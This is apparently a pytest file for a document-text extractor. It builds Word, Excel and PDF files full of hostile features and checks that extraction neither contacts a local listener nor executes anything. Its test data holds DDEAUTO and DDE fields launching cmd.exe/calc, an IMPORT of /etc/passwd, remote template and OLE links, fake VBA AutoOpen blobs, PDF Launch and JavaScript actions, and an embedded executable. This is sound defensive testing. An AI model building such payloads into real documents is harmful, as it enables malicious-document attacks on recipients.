"""Documents that ask for something outside: templates, objects, data links, macros. A listener waits for them."""

from __future__ import annotations

import socket
from collections.abc import Iterator

import pytest

TITLE = "<w:p><w:r><w:t>PERJANJIAN KINERJA TAHUN 2024</w:t></w:r></w:p>"
ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>PERJANJIAN KINERJA TAHUN 2024</t></is></c></row>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = AutoOpen\r\nShell cmd.exe\0" * 100
REMOTE = (
    "attachedTemplate",
    "oleObject",
    "image",
    "hyperlink",
    "frame",
    "subDocument",
    "aFChunk",
    "mailMergeSource",
    "styles",
    "header",
    "footer",
    "comments",
    "settings",
    "glossaryDocument",
    "video",
)


@pytest.fixture
def outside() -> Iterator[str]:
    """An address at which something listens; fails when anybody has called."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0)
        yield f"127.0.0.1:{listener.getsockname()[1]}"
        with pytest.raises(BlockingIOError):
            listener.accept()


def ways(outside: str) -> list[str]:
    return [
        f"http://{outside}/a.dotm",
        f"\\\\{outside}\\a\\b.dotm",
        f"file://{outside}/a",
        f"ftp://{outside}/a",
        f"mhtml:http://{outside}/a!x-usc:http://{outside}/b",
        f"ms-excel:ofe|u|http://{outside}/a.xlsx",
    ]


def test_templates_objects_and_parts_elsewhere(word, linked, watched, outside):
    links = linked(*[(kind, way, "External") for kind in REMOTE for way in ways(outside)])
    settings = (
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<w:attachedTemplate r:id="r0"/><w:updateFields w:val="true"/></w:settings>'
    )
    body = "".join(
        f'<w:altChunk r:id="r{n}"/><w:subDoc r:id="r{n}"/><w:p><w:r><w:object><o:OLEObject '
        f'xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" UpdateMode="Always" r:id="r{n}"/></w:object>'
        f"</w:r></w:p>"
        for n in range(len(REMOTE) * 6)
    )
    parts = {
        "word/_rels/document.xml.rels": links,
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": links,
        "_rels/.rels": linked(
            ("officeDocument", "word/document.xml"), ("officeDocument", f"http://{outside}/", "External")
        ),
    }
    outcome = watched(word(TITLE + body, parts=parts), 5, 200)
    assert (outcome.galat, outcome.text) == (None, "PERJANJIAN KINERJA TAHUN 2024")


@pytest.mark.parametrize(
    "field",
    [
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
        'DDE Excel "http://{0}/a" "A1"',
        'INCLUDETEXT "http://{0}/a.docx"',
        'INCLUDEPICTURE "http://{0}/a.png" \\d',
        'LINK Word.Document "\\\\\\\\{0}\\\\a"',
        'IMPORT "file:///etc/passwd"',
        "= 1 + 1",
    ],
)
def test_fields_show_what_they_showed(word, watched, outside, field):
    """Simple, in pieces, nested and without a result: a field is never worked out."""
    code = field.format(outside).replace('"', "&quot;")
    shown = "<w:r><w:t>tampil</w:t></w:r>"
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (code[:3], code[3:]))
    whole = f"{char.format('begin')}{pieces}{char.format('separate')}{shown}{char.format('end')}"
    nested = f"{char.format('begin')}{pieces}{whole}{char.format('end')}"
    body = f'<w:p><w:fldSimple w:instr="{code}">{shown}</w:fldSimple></w:p><w:p>{whole}</w:p><w:p>{nested}</w:p>'
    outcome = watched(word(TITLE + body), 5, 200)
    assert outcome.galat is None
    assert outcome.text.count("tampil") >= 2
    assert not any(text in outcome.text for text in ("cmd.exe", outside, "passwd", "1 + 1"))


@pytest.mark.parametrize(("name", "part"), [("a.docm", "word/vbaProject.bin"), ("a.docx", "word/vbaProject.bin")])
def test_macros_in_word(word, watched, name, part):
    parts = {part: OLE, "word/vbaData.xml": "<a/>", "word/activeX/activeX1.bin": OLE, "word/embeddings/o.bin": OLE}
    outcome = watched(word(TITLE, name=name, parts=parts), 5, 200)
    assert (outcome.galat, outcome.text) == (None, "PERJANJIAN KINERJA TAHUN 2024")


@pytest.mark.parametrize("name", ["a.xlsm", "a.xlsx", "a.xltm"])
def test_macros_and_data_links_in_excel(excel, linked, watched, outside, name):
    dde = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
        "</externalLink>"
    )
    cells = "".join(
        f'<row r="{n}"><c r="A{n}"{kind}><f>{formula}</f>{value}</c></row>'
        for n, (formula, kind, value) in enumerate(
            [
                ("cmd|'/C calc'!A0", "", ""),
                ("[1]!A0", "", "<v>7</v>"),
                (f"WEBSERVICE(&quot;http://{outside}/&quot;)", ' t="str"', "<v>lama</v>"),
                (f"IMAGE(&quot;http://{outside}/&quot;)", "", ""),
                (f"HYPERLINK(&quot;http://{outside}/&quot;;&quot;klik&quot;)", ' t="str"', "<v>klik</v>"),
            ],
            2,
        )
    )
    parts = {
        "xl/vbaProject.bin": OLE,
        "xl/externalLinks/externalLink1.xml": dde,
        "xl/externalLinks/_rels/externalLink1.xml.rels": linked(
            ("externalLinkPath", f"http://{outside}/a", "External")
        ),
        "xl/connections.xml": f'<connections><connection id="1" refreshOnLoad="1"><webPr url="http://{outside}/"/>'
        "</connection></connections>",
        "xl/worksheets/_rels/sheet1.xml.rels": linked(
            *[(kind, way, "External") for kind in ("drawing", "oleObject", "vmlDrawing") for way in ways(outside)]
        ),
        "xl/_rels/workbook.xml.rels": linked(
            ("worksheet", "worksheets/sheet1.xml"),
            ("externalLink", "externalLinks/externalLink1.xml"),
            ("vbaProject", "vbaProject.bin"),
            ("connections", "connections.xml"),
            ("sharedStrings", f"http://{outside}/s.xml", "External"),
            ("styles", f"http://{outside}/s.xml", "External"),
        ),
    }
    outcome = watched(excel(ROW + cells, name=name, parts=parts), 5, 200)
    assert outcome.galat is None
    assert outcome.text.split("\n") == ["PERJANJIAN KINERJA TAHUN 2024", "7", "lama", "klik"]


def test_actions_files_and_forms_in_pdf(paper, streamed, watched, outside):
    way = f"(http://{outside}/)".encode()
    text = b"BT /F 12 Tf 72 720 Td (PERJANJIAN KINERJA TAHUN 2024) Tj ET"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[4 0 R 7 0 R]/Resources<</Font<</F 5 0 R>>>>%b>>"
    launch = b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/C calc)>>>>"
    actions = b"/AA<</O<</S/SubmitForm/F<</FS/URL/F%b>>>>/C<</S/URI/URI%b>>>>/Annots[<</Subtype/Link/A%b>>]" % (
        way,
        way,
        launch,
    )
    form = b"<xdp><template><subform><event activity='initialize'><submit target='http://x/'/></event></subform></xdp>"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToR/F<</FS/URL/F%b>>/D[0/Fit]>>/AcroForm<</XFA 6 0 R/Fields[]>>"
        b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL%b)>>]>>"
        b"/EmbeddedFiles<</Names[(a.exe)<</F(a.exe)/EF<</F 6 0 R>>>>]>>>>>>" % (way, way),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        page % actions,
        streamed(text),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        streamed(form.replace(b"x/", outside.encode())),
        streamed(b"", b"/F<</FS/URL/F%b>>" % way),
    ]
    outcome = watched(paper(objects), 5, 200)
    assert (outcome.galat, outcome.text) == (None, "PERJANJIAN KINERJA TAHUN 2024")
